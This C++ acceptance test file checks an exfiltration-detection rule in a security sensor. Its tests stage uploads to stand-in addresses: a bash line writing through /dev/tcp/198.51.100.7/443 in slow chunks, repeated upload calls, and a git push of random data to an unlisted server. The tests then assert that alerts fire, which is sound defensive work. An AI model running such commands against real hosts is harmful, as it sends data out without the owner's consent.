// DE21: bytes that leave for hosts on no list are added up by tree and by workspace, whatever sends
// them: beyond the configured limit there is an alert with volume, repository and destination. The
// listed forge and registries, what is fetched, and what others fetch here are none.
#include "tests/acceptance/egress_test.h"

namespace picket::test {
namespace {

using ::testing::AllOf;
using ::testing::HasSubstr;
using ::testing::IsEmpty;

// As a site would set other limits.
std::string limit(std::string_view name, std::string_view by, std::string_view condition,
                  std::string_view reach) {
  return fmt::format(
      "- rule: exfiltration.{}\n  override: {{sequence: replace}}\n"
      "  sequence: {{by: {}, within: 1h, steps: [{{step: upload, condition: {}, "
      "sum: flow.bytes_out, reach: {}}}]}}\n",
      name, by, condition, reach);
}
const std::string kLimits =
    limit("lineage", "lineage", "sends_elsewhere", "1MiB") +
    limit("workspace", "workspace", "sends_elsewhere", "3MiB") +
    limit("git_push", "lineage", "sends_elsewhere and (proc.name = git or proc.pname = git)",
          "256KiB");

class DE21 : public EgressTest {
 protected:
  void begin(std::string agent_settings = {}) {
    deploy({.rules = kLimits, .agent_settings = std::move(agent_settings)});
    if (HasFatalFailure()) return;
    container_ = make_container({.id = "de21",
                                 .annotations = {{"picket/repository", "git.example/blue/shop"}},
                                 .binds = {"/usr", "/lib", "/lib64"}});
    ASSERT_TRUE(container_);
    for (const char* address : {"198.51.100.7", "203.0.113.80"}) {
      add_address(*container_, address);
      run(*container_, {"contact", "serve", address, "443"});
    }
    run(*container_, {"dns", "serve", "203.0.113.80"});
    shell("mkdir -p /src/app");
  }

  void shell(const std::string& script) {
    run(*container_, {"/usr/bin/bash", "-c", "export PATH=$PATH:/usr/bin; " + script});
  }
  std::vector<Alert> told() {
    std::vector<Alert> alerts;
    for (const Alert& alert : distinct(alerts_so_far(*container_)))
      if (alert["rule"].get<std::string>().starts_with("exfiltration.")) alerts.push_back(alert);
    return alerts;
  }
  static std::string output(const Alert& alert) { return alert["output"]; }

  std::unique_ptr<Container> container_;
};

TEST_F(DE21, ChunksOfOneTreeAreAddedUpHoweverTheyAreSent) {
  begin();
  if (HasFatalFailure()) return;
  shell(
      "cp /opt/picket-test/contact /tmp/notes; cd /src/app; "
      "contact upload 198.51.100.7 443 400000 write; "
      "/tmp/notes upload 198.51.100.7 443 400000 sendfile");
  EXPECT_THAT(told(), IsEmpty());
  shell(
      "cd /src/app; for how in write sendfile splice; do "
      "/tmp/notes upload 198.51.100.7 443 400000 $how; done; true");
  const auto alerts = told();
  ASSERT_EQ(alerts.size(), 1u) << Alert(alerts).dump(1);
  EXPECT_EQ(alerts[0]["rule"], "exfiltration.lineage");
  EXPECT_THAT(output(alerts[0]),
              AllOf(HasSubstr("1200000 bytes sent"), HasSubstr("to 198.51.100.7 port 443"),
                    HasSubstr("folder /src/app"), HasSubstr("repository git.example/blue/shop")));
  EXPECT_EQ(alerts[0]["steps"].size(), 3u);
  expect_identity(alerts[0], *container_);
}

TEST_F(DE21, AConnectionThatStaysOpenAndSendsSlowly) {
  begin("sensor: {flow_interval_seconds: 0}\n");  // each packet finds the minute over
  if (HasFatalFailure()) return;
  const auto slow = container_->launch(
      {"/usr/bin/bash", "-c",
       "mkfifo /tmp/gate; exec 3<>/dev/tcp/198.51.100.7/443; cd /src/app; "
       "for i in 1 2 3 4 5 6; do /usr/bin/head -c 200000 /dev/zero >&3; done; read x </tmp/gate"});
  ASSERT_TRUE(slow.ok()) << slow.status();
  const auto alert = deployment().alerts().wait_for("the upload", [&](const Alert& alert) {
    return of(*container_, alert) && alert["rule"] == "exfiltration.lineage";
  });
  ASSERT_TRUE(alert.ok()) << alert.status();
  EXPECT_THAT(output(*alert), HasSubstr("to 198.51.100.7 port 443"));
}

TEST_F(DE21, ManyTreesOfAWorkspaceAreAddedUpToo) {
  begin();
  if (HasFatalFailure()) return;
  for (int i = 0; i < 4; ++i)
    run(*container_, {"/usr/bin/setsid", "-w", "/opt/picket-test/contact", "upload", "198.51.100.7",
                      "443", "900000", "write"});
  const auto alerts = told();
  ASSERT_EQ(alerts.size(), 1u) << Alert(alerts).dump(1);
  EXPECT_EQ(alerts[0]["rule"], "exfiltration.workspace");
  EXPECT_THAT(output(alerts[0]), HasSubstr("3600000 bytes sent"));
}

TEST_F(DE21, GitPushesToAServerOnNoListAndToTheForge) {
  begin();
  if (HasFatalFailure()) return;
  shell(
      "export HOME=/root; cd /src/app && git init -q . && head -c 600000 /dev/urandom >data && "
      "git add data && git -c user.name=x -c user.email=x@example commit -q -m x && "
      "git init -q --bare /srv/shop.git && "
      "git daemon --detach --export-all --enable=receive-pack --base-path=/srv");
  const auto push = [&](const std::string& address, const std::string& branch) {
    shell(
        fmt::format("export HOME=/root; cd /src/app; for try in $(seq 100); do "
                    "git push -q git://{}/shop.git HEAD:refs/heads/{} && exit 0; sleep 0.05; "
                    "done; exit 1",
                    address, branch));
  };
  run(*container_, {"dns", "ask", "udp", "github.com"});
  push("203.0.113.80", "listed");
  EXPECT_THAT(told(), IsEmpty());
  shell(
      "cd /src/app && head -c 600000 /dev/urandom >data && "
      "git -c user.name=x -c user.email=x@example commit -q -a -m y");
  push("198.51.100.7", "mine");
  // git ends before its server hangs up, and only then is the connection over.
  const auto told_of = deployment().alerts().wait_for("the push", [&](const Alert& alert) {
    return of(*container_, alert) && alert["rule"] == "exfiltration.git_push";
  });
  ASSERT_TRUE(told_of.ok()) << told_of.status();
  const auto alerts = told();
  ASSERT_EQ(alerts.size(), 1u) << Alert(alerts).dump(1);
  EXPECT_EQ(alerts[0]["rule"], "exfiltration.git_push");
  EXPECT_THAT(output(alerts[0]),
              AllOf(HasSubstr("198.51.100.7 port 9418"), HasSubstr("git://198.51.100.7/shop.git"),
                    HasSubstr("repository in /src/app"), HasSubstr("git.example/blue/shop")));
}

TEST_F(DE21, RegistriesDownloadsAndWhoComesInAreSilent) {
  begin();
  if (HasFatalFailure()) return;
  run(*container_, {"dns", "ask", "udp", "registry.npmjs.org"});
  run(*container_, {"contact", "upload", "203.0.113.80", "443", "4000000", "write"});
  // What this side serves to whoever comes in, and what is fetched: the same bytes both ways.
  shell(
      "mkdir /srv && head -c 4000000 /dev/urandom >/srv/page && httpd -p 198.51.100.7:22 -h /srv "
      "&& "
      "wget -q -O /tmp/page http://198.51.100.7:22/page");
  EXPECT_THAT(told(), IsEmpty());
}

}  // namespace
}  // namespace picket::test
